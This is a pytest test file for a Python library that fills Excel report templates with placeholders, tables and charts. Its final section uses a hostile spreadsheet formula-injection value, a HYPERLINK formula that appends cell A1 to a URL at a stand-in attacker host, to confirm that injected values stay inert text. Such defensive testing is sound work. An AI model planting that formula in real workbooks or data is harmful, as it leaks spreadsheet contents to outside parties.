"""The template scheme: {{placeholders}}, ecore.<table> markers, user tables, charts that follow.

Templates are made here with openpyxl and filled with small frames; no API is involved.
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.table import Table

from ecore_xl.errors import TemplateError
from ecore_xl.report import Template, default_template
from ecore_xl.report.schema import FMT, TABLES, table_spec

ROOT = Path(__file__).resolve().parent.parent
VALUES: dict[str, Any] = {
    "month": "2026-10",
    "month_name": "October 2026",
    "month_start": dt.date(2026, 10, 1),
    "month_end": dt.date(2026, 10, 31),
    "legal_entity": "Ruhrtal Stahlguss GmbH",
    "legal_entity_id": "LE-001",
    "threshold": 0.02,
    "timezone": "Europe/Berlin",
    "granularity": "day",
    "generated_at": dt.datetime(2026, 11, 2, 8, 30),
    "source": "eCore API https://api.example/v1",
    "template": "t.xlsx",
    "version": "0.1.0",
}
ROWS = {"daily": 31, "cost_components": 5, "hedge_months": 12}


def frames(n: int = 4) -> dict[str, pd.DataFrame]:
    """Every report table with ``n`` rows (fixed row counts where the report has them)."""
    out = {}
    for spec in TABLES:
        rows = ROWS.get(spec.name, n)
        data: dict[str, list[Any]] = {}
        for column in spec.columns:
            if column.formula is not None:
                continue
            if column.fmt in (FMT["date"], FMT["datetime"], FMT["month"]):
                start = dt.datetime(2026, 10, 1)
                data[column.header] = [start + dt.timedelta(days=i) for i in range(rows)]
            elif column.fmt in (FMT["general"], FMT["text"]):
                data[column.header] = [f"{column.header} {i}" for i in range(rows)]
            else:
                data[column.header] = [float(i + 1) for i in range(rows)]
        out[spec.name] = pd.DataFrame(data)
    return out


def make(tmp_path: Path, build: Callable[[openpyxl.Workbook], None]) -> Path:
    wb = openpyxl.Workbook()
    wb.active.title = "Cover"
    build(wb)
    path = tmp_path / "t.xlsx"
    wb.save(path)
    return path


def mark(wb: openpyxl.Workbook, table: str, sheet: str, cell: str) -> None:
    col, row = re.match(r"([A-Z]+)(\d+)", cell).groups()  # type: ignore[union-attr]
    wb.defined_names[f"ecore.{table}"] = DefinedName(
        f"ecore.{table}", attr_text=f"'{sheet}'!${col}${row}"
    )


def fill(path: Path, n: int = 4) -> Path:
    wb = Template.load(path).fill(VALUES, frames(n))
    out = path.with_name("filled.xlsx")
    wb.save(out)
    return out


# ---- placeholders ----------------------------------------------------------------------------


def test_placeholders_become_typed_values_text_and_footers(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        ws = wb["Cover"]
        ws["A1"] = "{{month_start}}"
        ws["A1"].number_format = "mmmm yyyy"
        ws["A2"] = "Report {{ month }} for {{legal_entity}} ({{legal_entity_id}})"
        ws["A3"] = "{{threshold}}"
        ws["A3"].number_format = "0.0%"
        ws["A4"] = "made {{generated_at}}"
        ws.oddFooter.left.text = "{{legal_entity}} · {{month_name}}"

    wb = openpyxl.load_workbook(fill(make(tmp_path, build)))
    ws = wb["Cover"]
    assert ws["A1"].value == dt.datetime(2026, 10, 1)
    assert ws["A1"].number_format == "mmmm yyyy"
    assert ws["A2"].value == "Report 2026-10 for Ruhrtal Stahlguss GmbH (LE-001)"
    assert ws["A3"].value == pytest.approx(0.02)
    assert ws["A3"].number_format == "0.0%"
    assert ws["A4"].value == "made 2026-11-02 08:30"
    assert ws.oddFooter.left.text == "Ruhrtal Stahlguss GmbH · October 2026"
    dest = next(iter(wb.defined_names["FlagThreshold"].destinations))
    assert dest == ("Cover", "$A$3")  # the invoice flags compare with the visible cell


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("Report {{montth}}", r"sheet 'Data' cell C7: unknown placeholder \{\{montth\}\}"),
        ("Report {{month", r"sheet 'Data' cell C7: a placeholder is malformed"),
        ("{{}}", r"sheet 'Data' cell C7: unknown placeholder"),
    ],
)
def test_a_bad_placeholder_names_sheet_and_cell(tmp_path: Path, text: str, message: str) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        wb.create_sheet("Data")["C7"] = text

    with pytest.raises(TemplateError, match=message):
        Template.load(make(tmp_path, build))


def test_an_unknown_table_names_sheet_and_cell(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        wb.create_sheet("Data")
        mark(wb, "spot_prices", "Data", "B4")

    with pytest.raises(
        TemplateError, match=r"sheet 'Data' cell B4: defined name 'ecore.spot_prices'"
    ):
        Template.load(make(tmp_path, build))


def test_an_unknown_column_names_its_header_cell(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        ws = wb.create_sheet("Costs")
        ws["B3"], ws["C3"] = "Invoice", "Amount"
        ws.add_table(Table(displayName="tblMine", ref="B3:C4"))
        mark(wb, "costs", "Costs", "B3")

    with pytest.raises(TemplateError, match=r"sheet 'Costs' cell C3: 'Amount' is not a column"):
        Template.load(make(tmp_path, build))


def test_a_formula_column_needs_its_inputs(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        ws = wb.create_sheet("Check")
        ws["A1"], ws["B1"] = "Invoice", "Flag"
        ws.add_table(Table(displayName="tblCheck", ref="A1:B2"))
        mark(wb, "invoices", "Check", "A1")

    with pytest.raises(TemplateError, match=r"cell B1: column 'Flag' is a formula over column"):
        Template.load(make(tmp_path, build))


def test_a_marker_must_be_the_tables_corner(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        ws = wb.create_sheet("Costs")
        ws["A1"], ws["B1"] = "Invoice", "EUR"
        ws.add_table(Table(displayName="tblMine", ref="A1:B2"))
        mark(wb, "costs", "Costs", "B1")

    with pytest.raises(TemplateError, match=r"cell B1: ecore.costs must mark the top-left"):
        Template.load(make(tmp_path, build))


def test_a_template_that_is_no_workbook(tmp_path: Path) -> None:
    bad = tmp_path / "t.xlsx"
    bad.write_text("not a zip")
    with pytest.raises(TemplateError, match="cannot be read"):
        Template.load(bad)
    ods = tmp_path / "t.ods"
    ods.write_bytes(b"")
    with pytest.raises(TemplateError, match=r"not an \.xlsx"):
        Template.load(ods)


# ---- tables ----------------------------------------------------------------------------------


def test_a_users_table_keeps_its_name_columns_formats_and_own_formula(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        ws = wb.create_sheet("Check")
        headers = ["Meter", "invoice", "Invoiced MWh", "Metered MWh", "Deviation %", "Ratio"]
        for i, h in enumerate(headers):
            ws.cell(3, 2 + i, h)
        ws["D4"].number_format = "0.0"
        ws["G4"] = "=D4/E4"  # the user's own calculated column
        ws.add_table(Table(displayName="MyInvoices", ref="B3:G4"))
        mark(wb, "invoices", "Check", "B3")
        ws["B20"] = "kept below"

    out = fill(make(tmp_path, build), n=5)
    wb = openpyxl.load_workbook(out)
    ws = wb["Check"]
    assert ws.tables["MyInvoices"].ref == "B3:G8"
    assert [ws.cell(3, c).value for c in range(2, 8)] == [
        "Meter", "Invoice", "Invoiced MWh", "Metered MWh", "Deviation %", "Ratio",
    ]  # fmt: skip
    assert [ws.cell(r, 3).value for r in range(4, 9)] == [f"Invoice {i}" for i in range(5)]
    assert all(ws.cell(r, 4).number_format == "0.0" for r in range(4, 9))
    assert ws["G8"].value == "=D8/E8"
    assert ws["F8"].value.startswith('=IF(E8=0,"",(D8-E8)/E8)')
    assert ws["B20"].value == "kept below"


def test_without_a_table_every_column_is_laid_out(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        wb.create_sheet("Invoices")
        mark(wb, "invoices", "Invoices", "A2")

    out = fill(make(tmp_path, build), n=3)
    ws = openpyxl.load_workbook(out)["Invoices"]
    spec = table_spec("invoices")
    assert spec is not None
    assert [ws.cell(2, c + 1).value for c in range(len(spec.columns))] == spec.headers()
    assert ws.tables[spec.table].ref.endswith("5")
    flag = spec.headers().index("Flag") + 1
    assert "FlagThreshold" in ws.cell(5, flag).value


def test_an_empty_table_keeps_one_blank_row(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        wb.create_sheet("Clicks")
        mark(wb, "clicks", "Clicks", "A1")

    path = make(tmp_path, build)
    tables = frames()
    tables["clicks"] = tables["clicks"].iloc[0:0]
    wb = Template.load(path).fill(VALUES, tables)
    assert wb["Clicks"].tables["tblClicks"].ref == "A1:M2"


def test_a_chart_on_a_one_row_table_follows_the_rows(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        ws = wb.create_sheet("Costs")
        ws["A1"], ws["B1"] = "Component", "EUR"
        ws["B2"] = "=SUMIFS(tblCosts[EUR],tblCosts[Component],A2)"
        ws.add_table(Table(displayName="tblByComponent", ref="A1:B2"))
        mark(wb, "cost_components", "Costs", "A1")
        chart = BarChart()  # series on single cells, as Excel writes them for one row
        chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=2), titles_from_data=True)
        chart.set_categories(Reference(ws, min_col=1, min_row=2, max_row=2))
        wb["Cover"].add_chart(chart, "A1")

    wb = openpyxl.load_workbook(fill(make(tmp_path, build)))
    series = wb["Cover"]._charts[0].series[0]
    assert (series.val.numRef.f, series.cat.numRef.f) == ("'Costs'!$B$2:$B$6", "'Costs'!$A$2:$A$6")
    assert wb["Costs"]["B6"].value == "=SUMIFS(tblCosts[EUR],tblCosts[Component],A6)"


# ---- the built-in template -------------------------------------------------------------------


def _data_ranges(wb: openpyxl.Workbook) -> set[tuple[str, str, int, int]]:
    """(sheet, column letter, first, last data row) of every column of every table."""
    out = set()
    for ws in wb.worksheets:
        for table in ws.tables.values():
            bounds = openpyxl.utils.cell.range_boundaries(table.ref)
            for col in range(bounds[0], bounds[2] + 1):
                letter = openpyxl.utils.get_column_letter(col)
                out.add((ws.title, letter, bounds[1] + 1, bounds[3]))
    return out


def chart_refs(wb: openpyxl.Workbook) -> list[str]:
    refs = []
    for ws in wb.worksheets:
        for chart in ws._charts:
            for sub in chart._charts:
                for series in sub.series:
                    refs.append(series.val.numRef.f)
                    cat = series.cat.numRef or series.cat.strRef
                    refs.append(cat.f)
    return refs


def test_the_builtin_charts_point_exactly_at_the_filled_rows(tmp_path: Path) -> None:
    with default_template() as path:
        wb = Template.load(path).fill(VALUES, frames(7))
    out = tmp_path / "filled.xlsx"
    wb.save(out)
    wb = openpyxl.load_workbook(out)
    assert len(wb["Summary"]._charts) == 4
    ranges = _data_ranges(wb)
    refs = chart_refs(wb)
    # values and categories: daily and components per commodity, 3 monthly series per commodity
    assert len(refs) == 2 * (2 + 2 + 3 + 3)
    for ref in refs:
        m = re.fullmatch(r"'?([^'!]+)'?!\$([A-Z]+)\$(\d+):\$([A-Z]+)\$(\d+)", ref)
        assert m, ref
        sheet, c1, r1, c2, r2 = m.groups()
        assert c1 == c2
        assert (sheet, c1, int(r1), int(r2)) in ranges, ref
    counts = {ref.split("!")[0].strip("'"): int(ref.rsplit("$", 1)[1]) - 5 for ref in refs}
    assert counts == {"Consumption": 31, "Costs": 5, "Hedging": 12}


def test_the_builtin_template_keeps_formats_widths_and_print_setup(tmp_path: Path) -> None:
    with default_template() as path:
        before = openpyxl.load_workbook(path)
        wb = Template.load(path).fill(VALUES, frames(9))
    for ws in wb.worksheets:
        old = before[ws.title]
        assert ws.page_setup.orientation == old.page_setup.orientation
        assert ws.page_setup.fitToWidth == old.page_setup.fitToWidth
        assert ws.print_title_rows == old.print_title_rows
        for letter, dim in old.column_dimensions.items():
            # the template's width, or wider where a value needs it (test_xlsx_widths.py)
            assert ws.column_dimensions[letter].width >= dim.width, (ws.title, letter)
    summary = wb["Summary"]
    assert summary["B6"].value == (
        '=ROUND(SUMIFS(tblConsumption[MWh],tblConsumption[Commodity],"power"),1)'
    )
    assert summary["B6"].number_format == before["Summary"]["B6"].number_format == "#,##0.0"
    invoices = wb["Invoices"]
    last = 5 + 9
    assert invoices[f"I{last}"].number_format == FMT["mwh"]
    assert invoices[f"G{last}"].number_format == FMT["date"]
    rules = [cf.sqref for cf in invoices.conditional_formatting]
    assert [str(r) for r in rules] == [f"A6:O{last}"]  # the red flag row highlight follows
    rules = [str(cf.sqref) for cf in wb["Hedging"].conditional_formatting]
    assert rules == [f"A22:J{21 + 9}"]  # so does the over-hedged one


def test_the_committed_template_is_what_the_script_builds() -> None:
    spec = importlib.util.spec_from_file_location(
        "build_monthly_report", ROOT / "templates" / "build_monthly_report.py"
    )
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert module.main(["--check"]) == 0, "run: python templates/build_monthly_report.py"


def test_the_package_ships_the_template() -> None:
    with default_template() as path:
        template = Template.load(path)
    assert set(template.slots) == {t.name for t in TABLES}
    assert path.read_bytes() == (ROOT / "templates" / "monthly_report.xlsx").read_bytes()


def test_the_readme_documents_every_table_column_and_placeholder() -> None:
    from ecore_xl.report.schema import PLACEHOLDERS

    text = (ROOT / "templates" / "README.md").read_text(encoding="utf-8")
    for name in PLACEHOLDERS:
        assert f"`{{{{{name}}}}}`" in text, name
    for spec in TABLES:
        row = next(line for line in text.splitlines() if line.startswith(f"| `{spec.marker}` |"))
        assert f"`{spec.table}`" in row
        documented = [c.strip().rstrip("*") for c in row.split("|")[4].split(",")]
        assert documented == spec.headers(), spec.marker


def test_what_openpyxl_cannot_keep_is_reported(tmp_path: Path) -> None:
    import zipfile

    with default_template() as path:
        source = path.read_bytes()
    target = tmp_path / "with-extension.xlsx"
    with zipfile.ZipFile(io.BytesIO(source)) as src, zipfile.ZipFile(target, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":  # an Excel 2010 extension block
                ext = b'<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"/></extLst>'
                data = data.replace(b"</worksheet>", ext + b"</worksheet>")
            dst.writestr(item, data)
    template = Template.load(target)
    assert any("not supported" in w for w in template.load_warnings)
    assert set(template.slots) == {t.name for t in TABLES}  # still usable


# ---- values from the API are data, never formulas or codes (issue 12) -----------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _package_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as z:
        return "".join(
            z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
        )


def hostile_template(wb: openpyxl.Workbook) -> None:
    ws = wb["Cover"]
    ws["A1"] = "{{legal_entity}}"
    ws["A2"] = "{{legal_entity}} (id {{legal_entity_id}})"
    ws["A3"] = '="Report for {{legal_entity}}"'
    ws["A4"] = "=LEN({{legal_entity}})+{{threshold}}"
    ws["A5"] = '=IF({{month_start}}>0,"{{ month }}","")'
    ws.oddFooter.center.text = "{{legal_entity}} &P of &N"
    ws.oddHeader.left.text = "{{legal_entity_id}}"


@pytest.mark.parametrize("escape", [True, False])
def test_a_placeholder_value_is_never_a_formula(tmp_path: Path, escape: bool) -> None:
    values = {**VALUES, "legal_entity": HOSTILE, "legal_entity_id": "+1-2&P\x07"}
    path = make(tmp_path, hostile_template)
    wb = Template.load(path).fill(values, frames(), escape=escape)
    out = tmp_path / "filled.xlsx"
    wb.save(out)
    xml = _package_xml(out)
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert len(formulas) == 3  # the template's own three, and no more
    code = [re.sub(r'"(?:[^"]|"")*"', '""', f) for f in formulas]  # string literals out
    assert not [c for c in code if "HYPERLINK" in c or "A1" in c]
    back = openpyxl.load_workbook(out)["Cover"]
    assert back["A1"].value == HOSTILE and back["A1"].data_type == "s"
    assert back["A1"].quotePrefix is escape
    assert back["A2"].value == f"{HOSTILE} (id +1-2&P)"  # the bell character is gone
    assert back["A2"].quotePrefix is escape
    # in the template's own formulas the value is one string literal
    assert back["A3"].value == '="Report for =HYPERLINK(""http://evil.example/?""&A1,""open"")"'
    assert back["A4"].value == '=LEN("=HYPERLINK(""http://evil.example/?""&A1,""open"")")+0.02'
    assert back["A5"].value == '=IF(DATE(2026,10,1)>0,"2026-10","")'
    # headers and footers: & doubled, the template's own codes kept, no code from the value
    assert wb["Cover"].oddFooter.center.text.startswith("=HYPERLINK(")
    assert "&&A1" in wb["Cover"].oddFooter.center.text
    assert wb["Cover"].oddFooter.center.text.endswith(" &P of &N")
    assert wb["Cover"].oddHeader.left.text == "+1-2&&P"


def test_ampersands_in_a_footer_print_as_written(tmp_path: Path) -> None:
    def build(wb: openpyxl.Workbook) -> None:
        wb["Cover"].oddFooter.left.text = "{{legal_entity}}"

    wb = Template.load(make(tmp_path, build)).fill(
        {**VALUES, "legal_entity": "S&P Strom & Gas"}, frames()
    )
    out = tmp_path / "filled.xlsx"
    wb.save(out)
    assert "<oddFooter>&amp;LS&amp;&amp;P Strom &amp;&amp; Gas</oddFooter>" in _package_xml(out)
